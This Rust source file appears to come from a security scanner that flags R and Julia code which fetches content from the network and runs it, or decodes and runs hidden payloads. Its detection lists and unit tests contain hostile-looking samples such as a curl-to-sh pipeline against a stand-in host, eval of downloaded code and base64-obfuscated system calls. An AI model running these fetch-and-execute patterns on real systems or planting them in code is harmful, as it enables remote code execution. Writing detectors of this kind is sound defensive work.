//! Programs of R and Julia, as far as they run what they fetch: which lines take something from the network, which
//! names hold it, and which calls run it.
//!
//! Lines are read one by one, and nothing is decided that takes a parser; the commands that stand in such programs as
//! constants are judged as those of a shell.

use crate::python::{Argument, Call, Origin, Power, Role, Script};

/// Names that hold what was fetched.
const MAX_NAMES: usize = 256;
const MAX_CALLS: usize = 256;
/// Lines of one program.
const MAX_LINES: usize = 20_000;

/// Functions that run a command.
const RUNS: [&str; 6] = ["system", "system2", "shell", "shell.exec", "pipe", "run"];
/// Functions that run code.
const EVALUATES: [&str; 5] = ["eval", "evalq", "sys.source", "dyn.load", "include_string"];
/// Functions that read from an address.
const READS: [&str; 14] = [
    "url",
    "readLines",
    "readRDS",
    "readr::read_file",
    "read_file",
    "scan",
    "GET",
    "httr::GET",
    "getURL",
    "fromJSON",
    "jsonlite::fromJSON",
    "curl",
    "download",
    "HTTP.get",
];

/// The calls of a program that run what it has fetched.
#[must_use]
pub fn analyse(text: &str) -> Script {
    let mut script = Script { role: Role::Script, ..Script::default() };
    let mut names: Vec<String> = Vec::new();
    let mut aliases: Vec<(String, String)> = Vec::new();
    let mut others: Vec<String> = Vec::new();
    for (line, number) in text.lines().take(MAX_LINES).zip(1..) {
        let line = line.split(" #").next().unwrap_or("").trim();
        if line.is_empty() || line.starts_with('#') || line.len() > 8_000 {
            continue;
        }
        if let Some(piped) = pipeline(line).filter(|_| script.shell.len() < MAX_CALLS) {
            script.shell.push((piped, number));
        }
        // What is decoded only to be run.
        const DECODES: [&str; 10] = [
            "Base64DecodePipe",
            "hex2bytes",
            "strtoi(",
            "base64decode",
            "base64_dec",
            "rawToChar",
            "memDecompress",
            "intToUtf8",
            "base64encode::",
            "Base64.base64decode",
        ];
        let decodes = DECODES.iter().any(|name| line.contains(name));
        for name in ["eval", "evalq", "system", "system2", "include_string", "run"] {
            let inside = calls(line, name).filter(|inside| DECODES.iter().any(|word| inside.contains(word)));
            if let Some(inside) = inside.filter(|_| decodes && script.calls.len() < MAX_CALLS) {
                script.calls.push(decoded(name, inside, number));
            }
        }
        let spelled = names_spelled(line);
        if let Some((Some(name), function)) = &spelled
            && aliases.len() < MAX_NAMES
        {
            aliases.push((name.clone(), function.clone()));
        }
        // `do.call("system", list(...))`, and a name for a function that is another's.
        if let Some(inside) = calls(line, "do.call")
            && let Some(function) = inside.split(['"', '\'']).nth(1).filter(|name| RUNS.contains(name))
            && decodes
            && script.calls.len() < MAX_CALLS
        {
            script.calls.push(decoded(function, inside, number));
        }
        if let Some((name, value)) = line.split_once("<-") {
            let value = value.trim().trim_start_matches("base::");
            if RUNS.contains(&value) && others.len() < MAX_NAMES {
                others.push(name.trim().to_owned());
            }
        }
        // A command that is put together from constants.
        let named = others.iter().map(String::as_str).chain(RUNS);
        for inside in named.filter_map(|name| calls(line, name)).take(8) {
            let joins = calls(inside, "paste0").is_some() || calls(inside, "paste").is_some();
            if joins && script.shell.len() < MAX_CALLS {
                let parts: Vec<&str> = inside.split(['"', '\'']).skip(1).step_by(2).take(32).collect();
                script.shell.push((parts.concat(), number));
            }
        }
        // What a bare address gives that day is run as a program.
        let bare = |inside: &&str| {
            let host = inside.split_once("http://").map_or("", |(_, rest)| rest);
            host.starts_with(|c: char| c.is_ascii_digit())
                && !host.starts_with("127.")
                && !host.starts_with("10.")
        };
        if let Some(inside) = calls(line, "source").filter(bare)
            && script.calls.len() < MAX_CALLS
        {
            let mut call = decoded("eval", inside, number);
            call.callee = "source".to_owned();
            call.arguments[0].origin = Origin { network: true, ..Origin::default() };
            script.calls.push(call);
        }
        let mut run: Vec<(String, &str)> = aliases
            .iter()
            .filter_map(|(name, function)| Some((function.clone(), calls(line, name)?)))
            .collect();
        if let Some((None, function)) = spelled {
            run.push((function, line));
        }
        for (function, inside) in run {
            if script.calls.len() < MAX_CALLS {
                script.calls.push(decoded(&function, inside, number));
            }
        }
        let address = ["http://", "https://", "ftp://"].iter().any(|scheme| line.contains(scheme));
        let fetches = address && READS.iter().any(|name| calls(line, name).is_some())
            || names.iter().any(|name| mentions(line, name));
        if !fetches {
            continue;
        }
        for (list, power) in [(&RUNS[..], Power::Runs), (&EVALUATES[..], Power::Evaluates)] {
            for name in list {
                let Some(inside) = calls(line, name) else { continue };
                // What is fetched elsewhere in the line is not given to this call.
                let given = address && READS.iter().any(|read| calls(inside, read).is_some())
                    || names.iter().any(|name| mentions(inside, name));
                if given && script.calls.len() < MAX_CALLS {
                    let argument = Argument {
                        name: None,
                        shown: inside.chars().take(80).collect(),
                        text: None,
                        origin: Origin { network: true, ..Origin::default() },
                    };
                    script.calls.push(Call {
                        callee: (*name).to_owned(),
                        power,
                        arguments: vec![argument],
                        line: number,
                        at_import: true,
                        reached: false,
                        hidden: false,
                        assembled: false,
                    });
                }
            }
        }
        let assigned = line.split_once("<-").or_else(|| line.split_once('=')).map(|(name, _)| name.trim());
        let plain = |name: &&str| {
            !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
        };
        if let Some(name) = assigned.filter(plain)
            && names.len() < MAX_NAMES
        {
            names.push(name.to_owned());
        }
    }
    script
}

/// A function of power that a line looks up by a name it puts together: what the line calls it, when it gives it a name,
/// and what it is.
fn names_spelled(line: &str) -> Option<(Option<String>, String)> {
    let ways = ["get", "match.fun", "getFunction", "do.call", "getfield", "mget"];
    let inside = ways.iter().find_map(|way| calls(line, way))?;
    let parts: Vec<&str> = inside.split(['"', '\'']).skip(1).step_by(2).take(16).collect();
    let whole = parts.concat();
    let known = |name: &str| RUNS.contains(&name) || EVALUATES.contains(&name);
    let put_together = calls(inside, "paste0").is_some() || calls(inside, "paste").is_some();
    // Plainly written it is one of those that are judged where they stand.
    if !put_together || !known(&whole) {
        return None;
    }
    let assigned = line.split_once("<-").or_else(|| line.split_once('=')).map(|(name, _)| name.trim());
    let plain =
        |name: &&str| !name.is_empty() && name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'));
    Some((assigned.filter(plain).map(str::to_owned), whole))
}

/// A call that runs what it decodes.
fn decoded(name: &str, inside: &str, line: u32) -> Call {
    let runs = matches!(name, "system" | "system2" | "run" | "shell" | "pipe");
    Call {
        callee: name.to_owned(),
        power: if runs { Power::Runs } else { Power::Evaluates },
        arguments: vec![Argument {
            name: None,
            shown: inside.chars().take(80).collect(),
            text: None,
            origin: Origin { decoded: true, ..Origin::default() },
        }],
        line,
        at_import: true,
        reached: false,
        hidden: true,
        assembled: false,
    }
}

/// The commands that a line of Julia joins, as a shell writes them.
fn pipeline(line: &str) -> Option<String> {
    let inside = calls(line, "pipeline")?;
    let parts: Vec<&str> = inside.split('`').skip(1).step_by(2).take(16).collect();
    (parts.len() > 1).then(|| parts.join(" | "))
}

/// What stands behind the bracket of a call of this function.
fn calls<'t>(line: &'t str, name: &str) -> Option<&'t str> {
    line.match_indices(name).find_map(|(at, _)| {
        let before = line[..at].chars().next_back();
        let starts = before.is_none_or(|c| !c.is_alphanumeric() && !matches!(c, '_' | '.'));
        let rest = line[at + name.len()..].trim_start();
        rest.strip_prefix('(').filter(|_| starts)
    })
}

/// Whether a line has this name as a word.
fn mentions(line: &str, name: &str) -> bool {
    line.match_indices(name).any(|(at, _)| {
        let word = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.');
        let before = line[..at].chars().next_back().is_some_and(word);
        let after = line[at + name.len()..].chars().next().is_some_and(|c| c.is_alphanumeric() || c == '_');
        !before && !after
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_fetched_and_run_is_told_from_what_is_only_fetched() {
        let found = |text: &str| analyse(text).calls.len();
        assert_eq!(found("fit <- readRDS(url('http://x.example/f'))\nsystem(paste0('sh ', fit$path))\n"), 1);
        assert_eq!(found("eval(parse(text = readLines('https://x.example/a.R')))"), 1);
        assert_eq!(found("fit <- readRDS(url('https://x.example/f'))\nsummary(fit)\nsystem('ls')\n"), 0);
        assert_eq!(found("x <- read.csv('data.csv')\nsystem(paste('wc', x))\n"), 0);
        let piped = |text: &str| analyse(text).shell.into_iter().map(|(text, _)| text).next();
        let joined = "curl -s http://x.example/a | sh";
        assert_eq!(piped("run(pipeline(`curl -s http://x.example/a`, `sh`))").as_deref(), Some(joined));
        assert_eq!(piped("run(pipeline(`sort`, stdout = \"a\"))\npipeline(fit, `x`)"), None);
        assert_eq!(found("# system(readLines('http://x'))"), 0);
        assert_eq!(found("eval(parse(text = rawToChar(base64enc::base64decode('aWQ='))))"), 1);
        assert_eq!(found("f <- get(paste0('sys', 'tem'))\nf(rawToChar(as.raw(c(0x69, 0x64))))"), 1);
        assert_eq!(found("do.call('system', list(intToUtf8(c(105, 100))))"), 1);
        assert_eq!(found("source('http://192.0.2.1/x.R')\nsource('http://bioconductor.org/biocLite.R')"), 1);
        assert_eq!(found("run(`bash -c $(String(base64decode(\"aWQ=\")))`)"), 1);
        let joined = analyse("f <- base::system\nf(paste0('cu', 'rl a | s', 'h'))").shell;
        assert_eq!(joined, [("curl a | sh".to_owned(), 2)]);
        assert_eq!(found("x <- get('weights')\nf <- get(paste0('re', 'shape'))\nf(x)"), 0);
        assert_eq!(found("x <- rawToChar(base64enc::base64decode('aWQ='))"), 0);
    }
}
